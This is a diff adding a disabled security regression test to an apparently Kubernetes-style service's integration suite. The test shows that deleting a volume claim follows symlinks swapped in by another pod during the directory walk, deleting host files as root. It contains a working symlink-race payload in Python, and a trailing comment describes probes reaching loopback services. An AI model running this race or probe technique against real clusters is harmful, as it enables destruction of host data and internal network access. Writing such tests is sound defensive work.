@@ -680,6 +680,71 @@ class SecurityIT {
   }
 
   /**
+   * HOLE: deleting a claim removes its directory by a walk made before the first delete, each path
+   * resolved again when it is deleted, following symlinks in every element but the last. The claim
+   * is "in use" only while its own set's pod exists, so a pod of another set that mounts it by
+   * claimName keeps running while it goes, sees the walk begin (a file that sorts first vanishes) and
+   * swaps directories for symlinks: the service, as root, deletes files of the machine.
+   */
+  @Disabled("HOLE: deleting a claim follows symlinks a pod of another set, still mounting it, swaps in during the walk, deleting files of the machine")
+  @Test
+  void deletingAClaimNeverDeletesAFileOfTheMachine(@Namespace String ns) throws Exception {
+    Editor editor = editor(ns);
+    Path target = Files.createDirectories(Path.of("/var/tmp", "ordinal-attack-" + UUID.randomUUID().toString().substring(0, 8)));
+    Path victim = target.resolve("victim");
+    Files.writeString(victim, "the machine's\n");
+    Files.setPosixFilePermissions(victim, java.nio.file.attribute.PosixFilePermissions.fromString("rw-------"));
+    try {
+      ObjectNode owner = localSet("owner");
+      claim(owner, "data");
+      mount(container(owner, "c", "/bin/sleep", "100000"), "data", "/data");
+      editor.api().createSet(ns, owner);
+      awaitPod(ns, "owner-0", p -> p.at("/status/containerStatuses/0/ready").asBoolean());
+
+      ObjectNode deleter = localSet("deleter");
+      podSpec(deleter).putArray("volumes").addObject().put("name", "shared").putObject("persistentVolumeClaim")
+          .put("claimName", "data-owner-0");
+      ObjectNode d = container(deleter, "c", "/usr/bin/python3", "-c", """
+          import os, time
+          for i in range(300):
+              os.makedirs('/data/d%03d' % i)
+              open('/data/d%03d/victim' % i, 'w').close()
+              os.makedirs('/data/g%03d' % i)
+              for j in range(100):
+                  open('/data/g%03d/f%03d' % (i, j), 'w').close()
+          open('/data/zzz', 'w').close()
+          print('ready', flush=True)
+          while os.path.exists('/data/zzz'):
+              time.sleep(0.0005)
+          for i in range(300):
+              os.rename('/data/d%03d' % i, '/data/d%03d.old' % i)
+              os.symlink(os.environ['TARGET_DIR'], '/data/d%03d' % i)
+          print('swapped', flush=True)
+          time.sleep(100000)
+          """);
+      env(d, "TARGET_DIR", target.toString());
+      mount(d, "shared", "/data");
+      editor.api().createSet(ns, deleter);
+      awaitLog(editor, ns, "deleter-0", "c", "ready");
+
+      editor.kubectl().run("delete", "statefulset", "owner", "--wait=true", "--timeout=60s").ok();
+      admin().await(Paths.pod(ns, "owner-0"), TIMEOUT, r -> r.code() == 404);
+      editor.kubectl().run("delete", "pvc", "data-owner-0", "--wait=false"); // a 500 when the walk trips over what it did
+      admin().await(Paths.core(ns, "persistentvolumeclaims/data-owner-0"), TIMEOUT,
+          r -> r.code() == 404 || editor.api().get(Paths.pod(ns, "deleter-0") + "/log").body().contains("swapped")
+              || !Files.exists(victim));
+      Api.sleep(2_000);
+      assertTrue(Files.exists(victim), "the service deleted a file of the machine, " + victim);
+    } finally {
+      try (Stream<Path> files = Files.walk(target)) {
+        for (Path file : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
+          Files.deleteIfExists(file);
+        }
+      }
+    }
+  }
+
+  /**
    * HOLE: probes run in the service, on the machine's network: a tcpSocket or httpGet probe with
    * {@code host: 127.0.0.1} reaches the embedded PostgreSQL and the Temporal Web UI (and every other
    * loopback port), and the pod's readiness tells its editor whether it answered. Upstream's
